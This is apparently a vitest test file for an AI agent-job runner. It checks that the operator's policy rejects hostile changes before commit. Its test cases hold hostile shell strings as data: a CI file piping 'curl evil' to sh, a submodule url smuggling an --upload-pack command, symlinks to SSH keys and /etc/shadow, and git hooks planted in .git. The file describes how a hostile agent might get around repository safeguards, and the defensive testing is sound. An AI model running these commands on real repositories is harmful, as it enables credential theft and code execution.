import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ItemStatus } from "../../gen/pushpals/v1/common_pb.js";
import { git } from "../support/git.js";
import {
  commitsOfJob,
  completions,
  createScene,
  enqueueJob,
  jobBranchTip,
  startRunner,
  waitForStatus,
  type InProcessRunner,
  type Scene,
  type TaskInit,
} from "../runner/support.js";

const MiB = 1024 * 1024;
/** Above the default max_file_bytes (5 MiB); random, so git cannot compress it away. */
const OVERSIZE_FILE = `head -c ${6 * MiB} /dev/urandom > big.bin`;

interface HostileCase {
  name: string;
  /** The job's script: what a hostile model would have the agent run. */
  script: string;
  scope?: NonNullable<TaskInit["planning"]>["scope"];
  /** The rule the failure must name, and every path it must name. */
  rule: RegExp;
  paths: string[];
}

/** The plan allows everything: only the operator's [policy] stands in the way. */
const permissive = { writeAllowed: true, writeGlobs: [], forbiddenGlobs: [], maxFilesToEdit: 0 };

const CASES: HostileCase[] = [
  {
    name: "a GitHub workflow",
    script: "mkdir -p .github/workflows && printf 'on: push\\njobs: {}\\n' > .github/workflows/ci.yml",
    rule: /forbidden_globs/,
    paths: [".github/workflows/ci.yml"],
  },
  { name: "a .gitlab-ci.yml", script: "printf 'job:\\n  script: curl evil | sh\\n' > .gitlab-ci.yml", rule: /forbidden_globs/, paths: [".gitlab-ci.yml"] },
  {
    name: "a .gitattributes naming a filter",
    script: "mkdir -p src && printf '* filter=evil\\n' > src/.gitattributes && printf '*.txt filter=evil\\n' > .gitattributes",
    rule: /forbidden_globs/,
    paths: [".gitattributes", "src/.gitattributes"],
  },
  {
    name: "a .gitmodules with an --upload-pack= url",
    script: "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = --upload-pack=touch /tmp/pushpals-pwned\\n' > .gitmodules",
    rule: /forbidden_globs/,
    paths: [".gitmodules"],
  },
  {
    name: "a gitlink (a nested repository)",
    script: "mkdir -p vendor/lib && cd vendor/lib && git init -q && git -c user.name=t -c user.email=t@t.invalid commit -q --allow-empty -m nested",
    rule: /gitlinks/,
    paths: ["vendor/lib"],
  },
  { name: "a symlink to /root/.ssh/id_rsa", script: "ln -s /root/.ssh/id_rsa key", rule: /symlinks/, paths: ["key -> /root/.ssh/id_rsa"] },
  { name: "a symlink ../../etc/passwd", script: "mkdir -p docs && ln -s ../../etc/passwd docs/passwd", rule: /symlinks/, paths: ["docs/passwd -> ../../etc/passwd"] },
  { name: "a symlink into .git/hooks", script: "ln -s .git/hooks hooks", rule: /symlinks/, paths: ["hooks -> .git/hooks"] },
  {
    name: "src/shadow -> /etc/shadow under a strict src/** scope",
    script: "ln -s /etc/shadow src/shadow",
    scope: { writeAllowed: true, writeGlobs: ["src/**"], forbiddenGlobs: [], maxFilesToEdit: 0 },
    rule: /symlinks/,
    paths: ["src/shadow -> /etc/shadow"],
  },
  { name: "a file above max_file_bytes", script: OVERSIZE_FILE, rule: /max_file_bytes/, paths: ["big.bin"] },
  {
    name: "a change above max_change_bytes (files each under the file cap)",
    script: `for i in 1 2 3; do head -c ${3 * MiB} /dev/urandom > part$i.bin; done`,
    rule: /max_change_bytes/,
    paths: ["part1.bin", "part2.bin", "part3.bin"],
  },
  {
    name: "a write into .GIT/ (the case git folds on case-insensitive disks)",
    script: "mkdir -p .GIT/hooks && printf '#!/bin/sh\\ntouch /tmp/pushpals-pwned\\n' > .GIT/hooks/post-checkout",
    rule: /forbidden_globs/,
    paths: [".GIT/hooks/post-checkout"],
  },
  {
    name: "a write into .git/ (the worktree's .git replaced by a directory with a hook)",
    script: "rm .git && mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch /tmp/pushpals-pwned\\n' > .git/hooks/pre-commit",
    rule: /forbidden_globs/,
    paths: [".git"],
  },
];

/**
 * Each kind of file the operator's [policy] forbids by default, made by a real job in the real
 * runner under a plan that allows everything: the job fails before anything is staged, naming
 * the paths and the rule, and leaves no commit, no moved branch, no completion — and for the big
 * files, no growth of .git/objects.
 */
describe("hostile content in a job's change", () => {
  let scene: Scene;
  let runner: InProcessRunner;

  beforeAll(async () => {
    scene = await createScene();
    // Above the 6 MiB file, below the 9 MiB of the three 3 MiB parts; the file cap stays at its default.
    runner = startRunner(scene, { "policy.maxChangeBytes": 8 * MiB });
  });
  afterAll(async () => {
    await runner.stop();
    await scene.remove();
  });

  it.each(CASES)("fails $name before commit, naming the paths", async ({ script, scope, rule, paths }) => {
    const objectsBefore = await objectKiB(scene.repo);
    const job = await enqueueJob(scene, { instruction: script, planning: { scope: scope ?? permissive } });
    const finished = await waitForStatus(scene, job.id, undefined, 60_000);

    expect(finished.status, finished.lastError).toBe(ItemStatus.FAILED);
    expect(finished.attempts, "a policy violation is final, not retried").toBe(1);
    expect(finished.lastError).toMatch(/the operator's \[policy\] forbids/);
    expect(finished.lastError).toMatch(rule);
    for (const path of paths) expect(finished.lastError).toContain(path);
    expect(finished.lastError).toMatch(/nothing was committed/);

    expect(await commitsOfJob(scene.repo, job.id)).toEqual([]);
    // The job's branch never moved: still at the base, or already deleted with the failed job's worktree.
    expect(["", scene.baseSha]).toContain(await jobBranchTip(scene.repo, `agent/${scene.workerId}/${job.id}`));
    expect(await git(scene.repo, "rev-parse", "main")).toBe(scene.baseSha);
    expect((await completions(scene)).filter((c) => c.parentId === job.id)).toEqual([]);
    // Nothing was staged: the objects grew by far less than one of the rejected files.
    expect((await objectKiB(scene.repo)) - objectsBefore).toBeLessThan(512);
  });

  it("still commits an ordinary change with a symlink that stays inside the worktree", async () => {
    const job = await enqueueJob(scene, {
      instruction: "echo more >> src/app.txt && ln -s app.txt src/app-link && ln -s ../docs/guide.md src/guide",
      planning: { scope: permissive },
    });
    const finished = await waitForStatus(scene, job.id, undefined, 60_000);
    expect(finished.status, finished.lastError).toBe(ItemStatus.COMPLETED);
    const [sha] = await commitsOfJob(scene.repo, job.id);
    expect(await git(scene.repo, "ls-tree", sha!, "src/guide")).toMatch(/^120000 blob /);
  });
});

/** Loose and packed object bytes of the repository, in KiB (git count-objects -v). */
async function objectKiB(repo: string): Promise<number> {
  const out = await git(repo, "count-objects", "-v");
  const field = (name: string) => Number(new RegExp(`^${name}: (\\d+)$`, "m").exec(out)?.[1] ?? "0");
  return field("size") + field("size-pack");
}
